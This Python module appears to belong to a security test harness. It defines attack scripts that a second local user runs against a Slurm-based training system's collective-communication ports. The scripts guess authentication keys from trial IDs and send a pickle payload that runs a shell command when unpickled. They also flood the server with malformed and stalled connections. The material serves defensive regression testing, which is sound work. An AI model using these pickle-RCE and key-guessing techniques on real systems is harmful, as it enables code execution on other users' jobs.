"""Attack scripts the second user runs (stdlib only: they run under the system python3).

Each is source text for :meth:`security_harness.Attacker.python_snippet`; results come back as one
JSON line on stdout, so the tests can assert what the attacker saw, not only what the victim did.
"""

from __future__ import annotations

# Everything a neighbour can derive about a trial: the ids in the job name that squeue shows
# (det-e1-t1-r1), the allocation id built from them, the old default. Each as a key, raw and as
# sha256 (the old authkey), against the old pickle RPC handshake and against the new protocol,
# whose source is public. The payload runs `id > MARKER` when unpickled.
C1_COLLECTIVE_PORT = r"""
import hashlib, hmac, json, os, pickle, secrets, socket, struct, sys
from multiprocessing.connection import Client

target, marker = sys.argv[1], sys.argv[2]
socket.setdefaulttimeout(10)  # multiprocessing's Client would wait forever on a silent server
SEEDS = ["exp-1-trial-1-run-1", "exp-1-trial-1-run-11", "det-e1-t1-r1", "detslurm", "1", ""]
KEYS = {}
for s in SEEDS:
    KEYS["sha256(%r)" % s] = hashlib.sha256(s.encode()).digest()
    KEYS["raw(%r)" % s] = s.encode()

class Evil:
    def __reduce__(self):
        return (os.system, ("id > " + marker,))

EVIL = pickle.dumps(Evil())

def targets():
    if target != "unix":
        host, port = target.rsplit(":", 1)
        return [(socket.AF_INET, (host, int(port)))]
    found = []
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith("@detslurm-"):
            found.append((socket.AF_UNIX, "\0" + name[1:]))
    return found

def frame(sock, limit=1 << 16):
    head = sock.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        return None
    (n,) = struct.unpack(">I", head)
    return sock.recv(min(n, limit), socket.MSG_WAITALL)

def speak_protocol(family, addr, key):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(addr)
        challenge = json.loads(frame(s))
        nonce = secrets.token_hex(32)
        parts = ["hello", challenge["group"], challenge["nonce"], nonce, "1"]
        mac = hmac.new(key, "\n".join(parts).encode(), hashlib.sha256).hexdigest()
        hello = json.dumps({"rank": 1, "nonce": nonce, "mac": mac}).encode()
        s.sendall(struct.pack(">I", len(hello)) + hello)
        try:
            reply = frame(s)
        except OSError as e:
            reply = None
        accepted = bool(reply) and json.loads(reply).get("ok") is True
        try:  # whatever happened, push the payload too
            s.sendall(struct.pack(">I", len(EVIL)) + EVIL)
        except OSError:
            pass
        return accepted, "reply=%r" % (reply,)

def old_client(family, addr, key):
    fam = "AF_UNIX" if family == socket.AF_UNIX else "AF_INET"
    c = Client(addr, family=fam, authkey=key)
    c.send(Evil())
    c.close()
    return True, "the old handshake passed"

def raw_pickle(family, addr, key):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(addr)
        s.sendall(struct.pack(">I", len(EVIL)) + EVIL)
        s.sendall(struct.pack("!i", len(EVIL)) + EVIL + EVIL)
        return False, "sent"

results = []
for family, addr in targets():
    for name, key in KEYS.items():
        for method in (old_client, speak_protocol, raw_pickle):
            try:
                accepted, detail = method(family, addr, key)
            except Exception as e:
                accepted, detail = False, "%s: %s" % (type(e).__name__, e)
            results.append({"addr": repr(addr), "key": name, "method": method.__name__,
                            "accepted": accepted, "detail": detail[:200]})
            if accepted:  # in: an attacker stops here
                print(json.dumps(results))
                sys.exit(0)
print(json.dumps(results))
"""

# Bad clients during group formation: garbage, an oversized frame, a stall that
# never answers the challenge. Prints how long the server kept the stalled connection open.
C1B_BAD_CLIENTS = r"""
import json, socket, struct, sys, time

host, port = sys.argv[1], int(sys.argv[2])
out = {}
def conn():
    s = socket.create_connection((host, port), timeout=30)
    return s
s = conn(); s.sendall(b"GET / HTTP/1.0\r\n\r\n" * 10); out["garbage"] = s.recv(1 << 16) is not None; s.close()
s = conn(); s.sendall(struct.pack(">I", 2**31) + b"x" * 1024); out["oversized"] = True; s.close()
s = conn(); s.recv(1 << 16); s.sendall(struct.pack(">I", 5) + b"\x80\x04K\x01."); s.recv(1 << 16); s.close()
s = conn(); s.sendall(b"\x00\x00\x00\x10{}"); s.close()  # a truncated frame, then gone
stall = conn()
t0 = time.monotonic()
stall.recv(1 << 16)  # the challenge; then we never answer
try:
    while stall.recv(1 << 16):
        pass
    out["stall_closed_after_s"] = time.monotonic() - t0
except socket.timeout:
    out["stall_closed_after_s"] = None
print(json.dumps(out))
"""
